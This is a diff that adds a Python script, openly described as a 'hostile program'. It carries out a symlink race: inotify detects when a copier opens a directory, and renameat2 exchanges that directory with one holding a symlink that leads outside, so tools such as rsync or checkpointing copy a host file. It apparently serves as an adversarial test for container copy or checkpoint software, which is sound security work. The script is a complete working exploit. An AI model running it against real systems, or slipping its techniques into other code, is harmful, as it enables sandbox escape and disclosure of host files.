@@ -1,0 +1,115 @@
+"""A hostile program: it puts a symlink where a directory was, while somebody looks at the directory, and back.
+
+    DIR/p/d/NAME    a file of its own, in a directory
+    DIR/q/d         a symlink that leads out, to where only the host has such a file
+    DIR/z/decoy     a file that is copied later than the others
+
+inotify(7) tells that DIR/p/d is opened: somebody looks, and is about to copy what is in it. p and q are exchanged
+(renameat2(2)), so that the way to the file leads out, and exchanged again when the decoy is opened, or soon. It is done
+once for each number given, and SIGUSR1 has the next one begin: so many looks pass before, and the file is written after
+each of them, that it be copied; or, when none passes, after the exchange.
+"""
+
+import argparse
+import contextlib
+import ctypes
+import os
+import select
+import signal
+import struct
+import sys
+import time
+
+IN_OPEN = 0x20
+AT_FDCWD, RENAME_EXCHANGE = -100, 2
+#: Of the paths watched: none.
+NOBODY = -1
+#: How long a copy takes to begin: of a tmpfs, and by rsync, which opens the decoy when it is too late.
+SWAPPED_S, MOST_SWAPPED_S = 0.2, 1.5
+EVENT = struct.Struct("=iIII")
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+class Watch:
+    """Of who opens files or directories."""
+
+    def __init__(self, paths: list[str]) -> None:
+        self.fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
+        self._watched = [libc.inotify_add_watch(self.fd, os.fsencode(path), IN_OPEN) for path in paths]
+
+    def wait(self, which: int, timeout_s: float) -> bool:
+        """Until that path itself is opened."""
+        deadline = time.monotonic() + timeout_s
+        while (left := deadline - time.monotonic()) > 0:
+            if select.select([self.fd], [], [], left)[0] and self._is_opened(which):
+                return True
+        return False
+
+    def _is_opened(self, which: int) -> bool:
+        data = os.read(self.fd, 1 << 16)
+        found = False
+        while data:
+            watched, _, _, length = EVENT.unpack_from(data)
+            found = found or (which != NOBODY and watched == self._watched[which] and length == 0)
+            data = data[EVENT.size + length :]
+        return found
+
+    def drain(self) -> None:
+        with contextlib.suppress(BlockingIOError):
+            while os.read(self.fd, 1 << 16):
+                pass
+
+
+def exchange(one: str, other: str) -> None:
+    if libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE):
+        sys.exit(f"renameat2: {os.strerror(ctypes.get_errno())}")
+
+
+def write(path: str, text: str) -> None:
+    with open(path, "w") as file:
+        file.write(text)
+
+
+def attack(own: str, skip: int) -> None:
+    """Exchange them when the directory is looked at, but for the first times."""
+    watch = Watch(["p/d", "z/decoy"])
+    for number in range(skip):
+        watch.wait(0, 3600)
+        write(own, f"mine {number}")
+        write("z/decoy", f"decoy {number}")
+        watch.drain()
+    watch.wait(0, 3600)
+    exchange("p", "q")
+    watch.wait(1 if skip else NOBODY, MOST_SWAPPED_S if skip else SWAPPED_S)
+    exchange("p", "q")
+    if not skip:
+        write(own, "mine")
+    os.close(watch.fd)  # CRIU may not find what an inotify descriptor watches
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description="exchanges directories under whoever looks at them")
+    parser.add_argument("--dir", required=True)
+    parser.add_argument("--leads-to", required=True)
+    parser.add_argument("--name", required=True)
+    parser.add_argument("--skip", type=int, nargs="+", required=True)
+    args = parser.parse_args()
+    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
+    own = f"p/d/{args.name}"
+    for directory in (os.path.dirname(own), "q", "z"):
+        os.makedirs(f"{args.dir}/{directory}")
+    os.chdir(args.dir)
+    write("z/decoy", "decoy")
+    os.symlink(args.leads_to, "q/d")
+    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
+    for skip in args.skip:
+        attack(own, skip)
+        write("done", "")
+        signal.sigwait([signal.SIGUSR1])
+    while True:
+        time.sleep(1)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
